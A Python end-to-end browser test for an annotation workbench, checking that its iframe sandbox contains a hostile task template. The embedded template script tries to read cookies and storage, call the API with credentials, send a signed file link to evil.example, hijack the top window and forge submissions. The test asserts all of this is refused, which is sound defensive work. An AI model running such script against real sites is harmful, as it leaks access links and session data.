"""A hostile template in a real browser, through the deployed workbench: it reaches what its task names."""
# ruff: noqa: F811 - fixtures of other modules

import json

import pytest
from playwright.sync_api import Page

from recto_local.people import PASSWORD
from recto_workbench.jobs import Job
from recto_workbench.steps.assignment import Desk
from recto_workbench.tasks import JobPlaces
from tests.browsers import browser, page  # noqa: F401
from tests.e2e.test_b2_workbench_web import Browser, anna, desk, job, new_browser, url  # noqa: F401
from tests.workbench_fakes import add_open_job

pytestmark = pytest.mark.e2e

HOSTILE_TEMPLATE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><img id="page" src="{{ task.input['source-ref'] | grant_read_access }}"></crowd-form>
<p id="done"></p>
<script>
const link = "{{ task.input['textract-ref'] | grant_read_access }}", found = {};
const attempt = async (name, work) => {
  try { found[name] = String(await work()); } catch (error) { found[name] = "refused"; }
};
(async () => {
  await attempt("its own words", async () => (await fetch(link)).text());
  await attempt("parent", () => parent.document.title);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("api", async () => (await fetch("OURS/api/me", {credentials: "include"})).status);
  await attempt("elsewhere", async () => (await fetch("https://evil.example/?" + link)).status);
  await attempt("other services", async () => (await fetch(new URL("/", link))).status);
  await attempt("top", () => { top.location = "https://evil.example/"; });
  await attempt("eval", () => eval("1 + 1"));
  for (const nonce of ["forged", ""])
    parent.postMessage({recto: 1, nonce, type: "submit", answer: {a: 1}}, "*");
  document.getElementById("done").textContent = JSON.stringify({...found, origin: window.origin});
  setTimeout(() => { location = "https://evil.example/?" + link; }, 2000);
})();
</script>"""


def test_a_hostile_template_reaches_nothing_in_a_real_browser(
    desk: Desk,
    job: Job,
    page: Page,
    url: str,
    anna: Browser,
) -> None:
    task_input = json.loads(desk.objects.read(JobPlaces(desk.work_bucket, job.name).task_input(0)))
    years = {"TaskAvailabilityLifetimeInSeconds": 10**9}
    template = HOSTILE_TEMPLATE.replace("OURS", url)
    add_open_job(desk, "hostile-job", num_objects=1, template=template, task_input=task_input, **years)
    task = anna.change("POST", "/api/jobs/hostile-job/next", {}).json()["task"]
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    page.goto(f"{url}/api/auth/sign-in?next=/%23/tasks/{task['assignment']}")
    page.fill("#username", "anna")
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    frame = page.frame_locator("iframe.task-frame").first
    frame.locator("#done").filter(has_text="origin").wait_for()
    found = json.loads(frame.locator("#done").inner_text())
    page.wait_for_timeout(3000)  # it sends itself elsewhere after two seconds

    assert found.pop("its own words") == "content of p.json"
    assert found.pop("origin") == "null"
    assert set(found.values()) == {"refused"}, found
    assert page.url.startswith(f"{url}/#/tasks/")
    assert [each for each in asked if "evil.example" in each] == []
    assert anna.get(f"/api/tasks/{task['assignment']}").json()["state"] == "STARTED"
